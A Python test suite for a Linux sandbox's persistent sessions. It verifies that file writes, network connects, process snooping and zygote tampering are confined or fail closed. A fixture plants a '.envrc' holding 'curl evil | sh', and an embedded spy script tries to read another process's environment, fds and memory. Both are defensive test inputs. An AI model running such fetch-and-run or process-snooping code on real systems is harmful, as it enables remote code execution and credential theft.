"""Sessions: one lasting confinement that many commands run in (hcp_linux.session).

Each command of a session must be confined exactly as a run of its own is: every denial here
is done for real by the command and checked absent on the host, with a control that the same
action succeeds unconfined. And the session's own machinery must fail closed: a zygote
killed, stopped or left behind ends the session and everything in it (checked in the host's
process table). Runs under both executors and as root and nobody like the rest of the suite.
"""
from __future__ import annotations

import errno
import os
import signal
import socket
import subprocess
import time
from pathlib import Path

import pytest

from hcp_linux import Policy, Sandbox
from hcp_linux.errors import NotAllowlistedError
from hcp_linux.session import Session, SessionEnded
from hcp_linux.conformance.observers import processes_with
from sandboxing import TIMEOUT, jail, outside, wait_for  # noqa: F401

pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/python3"),
                                reason="a session's zygote runs the system's python3")


@pytest.fixture
def session(jail: Path):
    s = Session(Sandbox(Policy(jail=str(jail))))
    yield s
    s.close()


def _token() -> str:
    return f"hcp-session-test-{os.getpid()}-{time.monotonic_ns()}"


def _bg(token: str) -> str:
    """Shell text that leaves a process (a subshell whose command line holds ``token``) in
    the background, its output off the command's pipes."""
    return f"(sleep 300; : {token}) >/dev/null 2>&1 &"


def _alive(pid: int | None) -> bool:
    if pid is None:
        return False
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def test_commands_run_and_report_like_subprocess(session: Session) -> None:
    r = session.run(["sh", "-c", "echo out; echo err >&2; exit 3"])
    assert (r.returncode, r.stdout, r.stderr, r.timed_out) == (3, b"out\n", b"err\n", False)
    r = session.run(["sh", "-c", "kill -TERM $$"])
    assert r.returncode == -signal.SIGTERM
    r = session.run(["sh", "-c", 'echo "$HCP_SANDBOX $PWD"'])
    assert r.stdout.decode().split() == ["sandbox", session.policy.jail]


def test_each_command_is_confined_as_a_run_of_its_own(session: Session, jail: Path,
                                                      outside: Path) -> None:
    target = outside / "escape.txt"
    lst = socket.socket()
    lst.bind(("127.0.0.1", 0))
    lst.listen(1)
    lst.setblocking(False)
    port = lst.getsockname()[1]
    script = (f"import os, socket\n"
              f"try:\n    open({str(target)!r}, 'w').write('x'); print('write ok')\n"
              f"except OSError as e:\n    print('write', e.errno)\n"
              f"s = socket.socket()\nprint('connect', s.connect_ex(('127.0.0.1', {port})))\n"
              f"import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
              f"print('unshare', libc.unshare(0x10000000), ctypes.get_errno())\n")
    try:
        r = session.run(["python3", "-c", script])
        lines = r.stdout.decode().splitlines()
        assert lines[0] == f"write {errno.ENOENT}", r  # the outside is not in the view
        assert lines[1] in (f"connect {errno.ECONNREFUSED}", f"connect {errno.ENETUNREACH}"), r
        assert lines[2] == f"unshare -1 {errno.EPERM}", r
        assert not target.exists()
        with pytest.raises(BlockingIOError):
            lst.accept()
        # control: unconfined, the same script writes and connects
        c = subprocess.run(["/usr/bin/python3", "-c", script], capture_output=True,
                           timeout=TIMEOUT)
        assert c.stdout.decode().splitlines()[:2] == ["write ok", "connect 0"]
        assert target.exists()
    finally:
        lst.close()


def test_the_allow_list_is_asked_for_every_command(jail: Path) -> None:
    marker = jail / "ran"
    with Session(Sandbox(Policy(jail=str(jail), allow_bins=("echo",)))) as s:
        assert s.run(["echo", "yes"]).stdout == b"yes\n"
        with pytest.raises(NotAllowlistedError):
            s.run(["sh", "-c", f"touch {marker}"])
        assert not marker.exists()
        # the zygote itself is not held to the list: it is ours, and it is still there
        assert s.alive and s.run(["echo", "again"]).returncode == 0


def test_input_reaches_stdin_and_never_blocks_the_run(session: Session) -> None:
    """``input``: written while the output is read (a command that writes 1 MiB before it
    reads its 1 MiB would deadlock a write-then-read); empty input is EOF at once; a command
    that reads none of it still ends (EPIPE here, not a hang)."""
    data = bytes(range(256)) * 4096  # 1 MiB, NULs and invalid UTF-8 included
    r = session.run(["sh", "-c", "head -c 1048576 /dev/zero; cat"], input=data, timeout=60)
    assert r.returncode == 0 and r.stdout == bytes(1 << 20) + data
    assert session.run(["cat"], input=b"", timeout=10).stdout == b""
    r = session.run(["sh", "-c", "exec 0<&-; echo closed"], input=data, timeout=10)
    assert (r.returncode, r.stdout, r.timed_out) == (0, b"closed\n", False)
    assert session.run(["cat"], timeout=10).stdout == b""  # no input: /dev/null, as before


def test_ours_is_not_held_to_the_allow_list(jail: Path) -> None:
    """run(ours=True): the runtime's own helper (a framework adapter's file reader): the
    allow-list is not asked, every layer still confines it (the marker, the view)."""
    with Session(Sandbox(Policy(jail=str(jail), allow_bins=("echo",)))) as s:
        with pytest.raises(NotAllowlistedError):
            s.run(["cat", "/etc/hostname"])
        r = s.run(["sh", "-c", "echo $HCP_SANDBOX; grep ^Seccomp: /proc/self/status"],
                  ours=True)
        assert r.stdout.split() == [b"sandbox", b"Seccomp:", b"2"], r  # 2: a filter is on
        with pytest.raises(NotAllowlistedError):  # and only that call
            s.run(["sh", "-c", "true"])


def test_commands_share_the_sessions_tmp(session: Session) -> None:
    assert session.run(["sh", "-c", "echo kept > /tmp/shared"]).returncode == 0
    assert session.run(["cat", "/tmp/shared"]).stdout == b"kept\n"


def test_what_a_command_leaves_in_its_group_is_killed(jail: Path) -> None:
    token = _token()
    with Session(Sandbox(Policy(jail=str(jail)))) as s:
        r = s.run(["sh", "-c", f"{_bg(token)} echo started"])
        assert r.stdout == b"started\n"
        wait_for(lambda: not processes_with(token), "the background sleep to be killed")
    # control: with on_exit = "wait" it is left running (the session's end kills it)
    with Session(Sandbox(Policy(jail=str(jail), on_exit="wait"))) as s:
        r = s.run(["sh", "-c", f"{_bg(token)} echo started"])
        time.sleep(0.5)
        assert processes_with(token), "on_exit=wait: the background process should live on"
    wait_for(lambda: not processes_with(token), "the session's end to kill it")


def test_timeout_kills_the_command_group(session: Session) -> None:
    token = _token()
    r = session.run(["sh", "-c", f"sleep 300; echo never {token}"], timeout=0.5)
    assert r.timed_out and r.returncode == -signal.SIGKILL and r.stdout == b""
    assert not processes_with(token)
    assert session.alive and session.run(["true"]).returncode == 0


def test_output_is_capped(session: Session) -> None:
    r = session.run(["sh", "-c", "head -c 100000 /dev/zero"], output_cap=1000)
    assert r.truncated and len(r.stdout) == 1000 and r.returncode == 0


def test_a_failed_exec_is_reported(session: Session, jail: Path) -> None:
    """The plan checks what it can (exists, executable); an exec that still fails inside
    (here: a script whose interpreter is not in the view) is the zygote's to report."""
    script = jail / "orphan-script"
    script.write_text("#!/nonexistent/interpreter\n")
    os.chmod(script, 0o755)
    with pytest.raises(OSError) as info:
        session.run([str(script)])
    assert info.value.errno == errno.ENOENT
    assert session.alive and session.run(["true"]).returncode == 0


def test_the_zygote_cannot_be_reached_by_its_commands(session: Session) -> None:
    """A command's parent is its keeper (a fork of the zygote), not dumpable and outside the
    command's Landlock domain: the command (same uid, no capability) can neither ptrace it,
    take its fds, nor (Landlock ABI 6) signal it; its own /proc entries stay readable (the
    control)."""
    script = ("import os, ctypes, signal\npp = os.getppid()\n"
              "libc = ctypes.CDLL(None, use_errno=True)\n"
              "def tr(name, f):\n"
              "    try:\n        f(); print(name, 0)\n"
              "    except OSError as e:\n        print(name, e.errno)\n"
              "tr('environ', lambda: open(f'/proc/{pp}/environ').read())\n"
              "tr('fd', lambda: os.readlink(f'/proc/{pp}/fd/3'))\n"
              "tr('self', lambda: os.readlink('/proc/self/fd/0'))\n"
              "pidfd = libc.syscall(434, pp, 0)\n"
              "print('getfd', libc.syscall(438, pidfd, 3, 0), ctypes.get_errno())\n"
              "print('ptrace', libc.syscall(101, 16, pp, 0, 0), ctypes.get_errno())\n"
              "tr('signal', lambda: os.kill(pp, signal.SIGKILL))\n"
              "tr('signal-self', lambda: os.kill(os.getpid(), 0))\n")
    r = session.run(["python3", "-c", script])
    got = dict(line.split(" ", 1) for line in r.stdout.decode().splitlines())
    assert got["environ"] in (str(errno.EACCES), str(errno.EPERM)), r
    assert got["fd"] in (str(errno.EACCES), str(errno.EPERM)), r
    assert got["self"] == "0", r
    assert got["getfd"].startswith("-1 "), r
    assert got["ptrace"].startswith("-1 "), r
    assert got["signal-self"] == "0", r
    if _landlock_abi() >= 6:
        assert got["signal"] == str(errno.EPERM), r
    assert session.alive and session.run(["true"]).returncode == 0


def test_a_killed_zygote_ends_the_session_and_everything_in_it(jail: Path) -> None:
    """The zygote killed (from the host: a command cannot signal it, see above) while a
    command runs: that command raises SessionEnded, and nothing of the session is left."""
    import threading
    token, running = _token(), _token()
    s = Session(Sandbox(Policy(jail=str(jail), on_exit="wait")))
    errors: list[BaseException] = []

    def long_run() -> None:
        try:
            s.run(["sh", "-c", f"sleep 30; : {running}"])
        except BaseException as e:  # noqa: BLE001 - recorded for the assertion
            errors.append(e)

    try:
        zygote = s.zygote_pid
        assert _alive(zygote)
        s.run(["sh", "-c", f"{_bg(token)} exit 0"])
        assert processes_with(token)
        t = threading.Thread(target=long_run)
        t.start()
        wait_for(lambda: processes_with(running), "the command to start")
        assert zygote is not None
        os.kill(zygote, signal.SIGKILL)
        t.join(TIMEOUT)
        assert errors and isinstance(errors[0], SessionEnded), errors
        assert not s.alive
        wait_for(lambda: not processes_with(token) and not processes_with(running)
                 and not _alive(zygote), "the session's processes to be gone")
        with pytest.raises(SessionEnded):
            s.run(["true"])
    finally:
        s.close()


def test_a_stopped_zygote_fails_closed(jail: Path) -> None:
    token = _token()
    s = Session(Sandbox(Policy(jail=str(jail), on_exit="wait")))
    try:
        s.run(["sh", "-c", f"{_bg(token)} exit 0"])
        assert s.zygote_pid is not None
        os.kill(s.zygote_pid, signal.SIGSTOP)
        with pytest.raises(SessionEnded, match="did not start"):
            s.run(["true"], timeout=1)
        assert not s.alive
        wait_for(lambda: not processes_with(token) and not _alive(s.zygote_pid),
                 "the stopped session to be killed")
    finally:
        s.close()


def test_close_ends_every_command(jail: Path) -> None:
    import threading
    token = _token()
    s = Session(Sandbox(Policy(jail=str(jail))))
    errors: list[BaseException] = []

    def long_run() -> None:
        try:
            s.run(["sh", "-c", f"sleep 300; : {token}"])
        except BaseException as e:  # noqa: BLE001 - recorded for the assertion
            errors.append(e)

    t = threading.Thread(target=long_run)
    t.start()
    wait_for(lambda: processes_with(token), "the command to start")
    s.close()
    t.join(TIMEOUT)
    assert not t.is_alive()
    assert errors and isinstance(errors[0], SessionEnded)
    wait_for(lambda: not processes_with(token), "the command to be gone")


# --- what a command leaves behind, and what other commands can reach of it --------------------

#: how long a test lets a hanging ``run`` go before it ends the session itself
HANG = 15.0


def _bounded(s: Session, argv: list[str], watch: str | None = None,  # type: ignore[no-untyped-def]
             seen_flag: Path | None = None, **kw):
    """``s.run(argv, **kw)`` in a thread: (result, seconds taken, host pids whose command line
    held ``watch`` while it ran; ``seen_flag`` is created once one was seen). A run still
    going after HANG s fails the test, and the session is closed (so nothing of the test is
    left hanging)."""
    import threading
    box: dict = {}
    seen: set[int] = set()

    def go() -> None:
        try:
            box["r"] = s.run(argv, **kw)
        except BaseException as e:  # noqa: BLE001 - re-raised below
            box["e"] = e

    start = time.monotonic()
    t = threading.Thread(target=go, daemon=True)
    t.start()
    while t.is_alive() and time.monotonic() - start < HANG:
        if watch:
            seen.update(processes_with(watch))
            if seen and seen_flag is not None:
                seen_flag.touch()
        t.join(0.05)
    took = time.monotonic() - start
    if t.is_alive():
        s.close()
        t.join(TIMEOUT)
        pytest.fail(f"run({argv!r}) had not returned after {took:.1f} s")
    if "e" in box:
        raise box["e"]
    return box["r"], took, seen


def _holder(token: str) -> str:
    """Shell text for a process that holds the command's stdout and stderr open for 300 s,
    ``token`` in its command line."""
    return f"python3 -c 'import time; time.sleep(300)' {token}"


def test_a_timeout_returns_whatever_holds_the_pipes(session: Session) -> None:
    """A setsid'd leftover (out of the command's group) keeps both pipes open: the run still
    returns about the timeout after it started, and that leftover is dead afterwards."""
    token = _token()
    r, took, seen = _bounded(session, ["sh", "-c", f"setsid {_holder(token)} & echo hi; "
                                                   f"sleep 300"], watch=token, timeout=2)
    assert took < 2 + 5, took
    assert r.timed_out and r.returncode == -signal.SIGKILL and r.stdout == b"hi\n", r
    assert (r.leftovers, r.abandoned) == ("killed", False), r
    assert seen, "the leftover never showed up in the host's process table"
    assert not any(_alive(pid) for pid in seen), seen
    assert session.alive and session.run(["true"]).returncode == 0


def test_a_command_that_exits_takes_what_it_left_with_it(jail: Path) -> None:
    """on_exit = "kill": the command's exit ends every process it started, setsid'd ones too
    (as a run's init does), so the read ends at once. Control: on_exit = "wait" leaves it
    running; the read ends a short drain after the command's exit, the pipes abandoned."""
    token = _token()
    flag = jail / "seen"
    # the command waits (at most 10 s) until the test has seen its leftover's pid
    wait = f"i=0; while [ ! -e {flag} ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i+1)); done"
    with Session(Sandbox(Policy(jail=str(jail)))) as s:
        r, took, seen = _bounded(s, ["sh", "-c", f"setsid {_holder(token)} & echo hi; {wait}"],
                                 watch=token, seen_flag=flag)
        assert (r.returncode, r.stdout, r.timed_out) == (0, b"hi\n", False), r
        assert (r.leftovers, r.abandoned) == ("killed", False), r
        assert seen and not any(_alive(pid) for pid in seen), seen
        r = s.run(["sh", "-c", "echo quiet"])
        assert (r.leftovers, r.abandoned) == ("none", False), r
    with Session(Sandbox(Policy(jail=str(jail), on_exit="wait"))) as s:
        r, took, seen = _bounded(s, ["sh", "-c", f"{_holder(token)} & echo hi"], watch=token)
        assert (r.returncode, r.stdout) == (0, b"hi\n"), r
        assert (r.leftovers, r.abandoned) == ("running", True), r
        assert seen and all(_alive(pid) for pid in seen), seen
    wait_for(lambda: not any(_alive(pid) for pid in seen), "the session's end to kill it")


#: a spy: finds the process whose command line holds argv[2], tries to read its environment,
#: fds and memory and to signal it, and writes what it got to argv[1]; then touches argv[1].done
_SPY = r"""
import json, os, sys, time
out, mark = sys.argv[1], sys.argv[2].encode()
got = {}
def attempt(name, f):
    try:
        got[name] = f()
    except OSError as e:
        got[name] = 'errno %d' % e.errno
deadline = time.monotonic() + 30
while 'pid' not in got and time.monotonic() < deadline:
    for p in os.listdir('/proc'):
        if p.isdigit() and int(p) != os.getpid():
            try:
                cmd = open('/proc/%s/cmdline' % p, 'rb').read()
            except OSError:
                continue
            if mark in cmd and b'spy.py' not in cmd:
                got['pid'] = int(p)
    time.sleep(0.05)
if 'pid' in got:
    p = got['pid']
    attempt('environ', lambda: open('/proc/%d/environ' % p, 'rb').read().decode('latin-1'))
    attempt('fd', lambda: os.readlink('/proc/%d/fd/1' % p))
    attempt('fd-open', lambda: open('/proc/%d/fd/1' % p, 'rb').close() or 'opened')
    attempt('mem', lambda: open('/proc/%d/mem' % p, 'rb').close() or 'opened')
    attempt('signal', lambda: os.kill(p, 0) or 'sent')
open(out, 'w').write(json.dumps(got))
open(out + '.done', 'w').close()
"""


def _victim(done: Path, mark: str) -> str:
    """Shell text that waits (at most 30 s) for the spy to say it is done; ``mark`` in its
    command line."""
    return f"i=0; while [ ! -e {done} ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done; : {mark}"


def test_a_leftover_cannot_read_a_later_commands_environment(jail: Path) -> None:
    """Command 1 leaves a spy (on_exit = "wait" keeps it running); command 2 has a secret in
    its environment. The spy finds command 2 in /proc but reads neither its environment, nor
    its fds, nor its memory. Control: the same spy started inside command 2 reads it all."""
    (jail / "spy.py").write_text(_SPY)
    secret = _token() + "-secret"
    mark = "victim-" + _token()
    out = jail / "spy.out"
    done = jail / "spy.out.done"
    with Session(Sandbox(Policy(jail=str(jail), on_exit="wait"))) as s:
        r = s.run(["sh", "-c", f"python3 spy.py {out} {mark} >/dev/null 2>&1 &"])
        assert r.returncode == 0, r
        r = s.run(["sh", "-c", _victim(done, mark)], env={"HCP_TEST_SECRET": secret})
        assert r.returncode == 0 and done.exists(), r
        got = out.read_text()
        assert "pid" in got, got  # the spy did find command 2
        assert secret not in got, got
        report = __import__("json").loads(got)
        denied = {f"errno {errno.EACCES}", f"errno {errno.EPERM}"}
        assert report["environ"] in denied and report["fd"] in denied, report
        assert report["fd-open"] in denied and report["mem"] in denied, report
        if _landlock_abi() >= 6:  # LANDLOCK_SCOPE_SIGNAL
            assert report["signal"] == f"errno {errno.EPERM}", report
        # control: within one command the same spy reads the same secret
        out.unlink()
        done.unlink()
        r = s.run(["sh", "-c", f"python3 spy.py {out} {mark} & exec sh -c \"$0\"",
                   _victim(done, mark)], env={"HCP_TEST_SECRET": secret})
        assert r.returncode == 0 and done.exists(), r
        report = __import__("json").loads(out.read_text())
        assert f"HCP_TEST_SECRET={secret}" in report["environ"], report
        assert report["fd"].startswith("pipe:") and report["fd-open"] == "opened", report
        assert report["mem"] == "opened" and report["signal"] == "sent", report


def _landlock_abi() -> int:
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    return max(0, libc.syscall(444, None, 0, 1))  # landlock_create_ruleset(VERSION)


def test_a_planted_protected_name_is_swept_after_each_command(jail: Path) -> None:
    """Not when the session ends (hours later): once the command that planted it ended.
    Negative control: a name that is not protected stays, and with the opt-out the
    protected one stays too."""
    with Session(Sandbox(Policy(jail=str(jail)))) as s:
        r = s.run(["sh", "-c", "echo 'curl evil | sh' > .envrc && echo keep > notes.txt "
                   "&& mkdir sub && echo evil > sub/.envrc"])
        assert r.returncode == 0, r
        assert not os.path.lexists(jail / ".envrc")
        assert not os.path.lexists(jail / "sub" / ".envrc")  # below the top level too
        assert (jail / "notes.txt").read_text() == "keep\n"
        assert r.protected_sweep == {str(jail / ".envrc"): "removed",
                                     str(jail / "sub" / ".envrc"): "removed"}, r
        r = s.run(["true"])
        assert r.protected_sweep == {}, r
    with Session(Sandbox(Policy(jail=str(jail), allow_write_protected=(".envrc",)))) as s:
        r = s.run(["sh", "-c", "echo mine > .envrc"])
        assert r.returncode == 0 and r.protected_sweep == {}, r
        assert (jail / ".envrc").read_text() == "mine\n"


def test_placeholders_hold_for_the_whole_session(jail: Path) -> None:
    with Session(Sandbox(Policy(jail=str(jail), protect_missing="placeholders"))) as s:
        r = s.run(["sh", "-c", "mkdir -p .vscode/x 2>/dev/null || echo denied; "
                   "echo x > .envrc 2>/dev/null || echo denied"])
        assert r.stdout == b"denied\ndenied\n", r
    assert (jail / ".envrc").read_bytes() == b"" and not any((jail / ".vscode").iterdir())
